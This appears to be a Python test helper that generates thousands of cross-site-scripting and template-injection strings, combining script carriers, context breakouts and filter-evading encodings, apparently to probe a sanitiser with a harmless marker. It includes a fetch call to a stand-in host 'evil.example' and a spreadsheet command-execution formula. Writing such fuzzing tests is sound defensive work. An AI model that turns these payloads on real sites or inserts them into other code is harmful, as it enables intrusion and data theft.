"""Thousands of strings that try to become code: what to run, how it hides, where it breaks out.

Each sets the same mark that the few of ``payloads`` set. They are made, not collected: every
breakout of a place where text may stand, around every way to run something, in several disguises.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import product

from tests.maps.payloads import MARK

__all__ = ["strings"]

_RUN = (
    MARK,
    f"eval(String.fromCharCode({','.join(str(ord(c)) for c in MARK)}))",
    f"[].constructor.constructor({MARK!r})()",
    "top.__hit=1",
    "self['__hi'+'t']=1",
    "window.onerror=()=>{window.__hit=1};throw 1",
    f"import('data:text/javascript,{MARK}')",
    f"fetch('https://evil.example/'+{MARK})",
)

# ``@`` is what runs.
_CARRIER = (
    "@",
    "<script>@</script>",
    "<ScRiPt >@</sCrIpT >",
    "<script src=data:text/javascript,@></script>",
    "<script type=module>@</script>",
    "<img src=x onerror=@>",
    '<img src="x" onerror="@">',
    "<img/src=x/onerror=@//",
    "<IMG SRC=x ONERROR\n=\n@>",
    "<svg onload=@>",
    "<svg><script>@</script></svg>",
    "<svg><animate onbegin=@ attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=@>",
    "<body onload=@>",
    "<details open ontoggle=@>x</details>",
    "<input autofocus onfocus=@>",
    "<select autofocus onfocus=@></select>",
    "<video><source onerror=@></video>",
    "<audio src=x onerror=@>",
    "<marquee onstart=@>",
    "<iframe srcdoc='<script>parent.@</script>'></iframe>",
    "<iframe src=javascript:@></iframe>",
    "<object data=javascript:@></object>",
    "<embed src=javascript:@>",
    "<a href=javascript:@ id=x>x</a>",
    "<form action=javascript:@><button>x</button></form>",
    "<link rel=stylesheet href=javascript:@>",
    "<style>@import'javascript:@'</style>",
    "<style onload=@></style>",
    "<meta http-equiv=refresh content='0;url=javascript:@'>",
    "<base href=javascript:@//>",
    "<template><script>@</script></template>",
    "<noscript><img src=x onerror=@></noscript>",
    "<x tabindex=1 onfocus=@ autofocus>",
    "javascript:@",
    "data:text/html,<script>@</script>",
    "vbscript:@",
    "${@}",
    "#{@}",
    "{{@}}",
    "{{constructor.constructor('@')()}}",
    "{%@%}",
    "<%=@%>",
    "[[@]]",
    "*{@}",
    "`${@}`",
    "=cmd|'/c @'!A0",
    "url(javascript:@)",
    "expression(@)",
)

# What ends the place where a text may stand.
_BREAKOUT = (
    "%s",
    '"%s',
    "'%s",
    "`%s",
    '">%s<"',
    "'>%s<'",
    "`;%s;`",
    '";%s;//',
    "';%s;//",
    "\\';%s;//",
    '\\";%s;//',
    "*/%s/*",
    "//\n%s//",
    "\u2028%s\u2029",
    "-->%s<!--",
    "--!>%s<!--",
    "<!--%s-->",
    "]]>%s<![CDATA[",
    "</script>%s<script>",
    "</noscript>%s<noscript>",
    "</title></style></textarea>%s",
    "</template></table></select>%s",
    "%%}%s{%%",
    "{%% raw %%}%s{%% endraw %%}",
)


def _entities(text: str) -> str:
    return "".join(f"&#{ord(c)};" if c in "<>\"'" else c for c in text)


def _escapes(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" if c in "<>\"'`" else c for c in text)


def _wide(text: str) -> str:
    # Full-width letters that a careless normalisation turns into the real ones.
    return "".join(chr(ord(c) + 0xFEE0) if c in "<>\"'" else c for c in text)


_DISGUISE: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    _entities,
    _escapes,
    _wide,
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "<\x00").replace("on", "o\x00n"),
    lambda text: f"\u202e{text}\u202c",
    lambda text: f"\u2066{text}\ufeff\u200b",
    lambda text: f"\ud800{text}\udfff",
    lambda text: f"\x1b[31m{text}\x08\x85",
    lambda text: text.replace(" ", "\t\u00a0"),
    lambda text: f"صوران {text} Суран 蘇蘭 \U0001f4a5",
)


def strings(number: int) -> list[str]:
    """Return so many distinct strings, spread over all that the grammar makes."""
    every = list(dict.fromkeys(_every()))
    assert len(every) >= number
    # A stride without common divisor visits all of them, every rule early on.
    return [every[at * 7919 % len(every)] for at in range(number)]


def _every() -> Iterator[str]:
    for disguise, breakout, carrier in product(_DISGUISE, _BREAKOUT, _CARRIER):
        run = _RUN[(len(breakout) + len(carrier)) % len(_RUN)]
        yield disguise(breakout.replace("%%", "%").replace("%s", carrier.replace("@", run)))
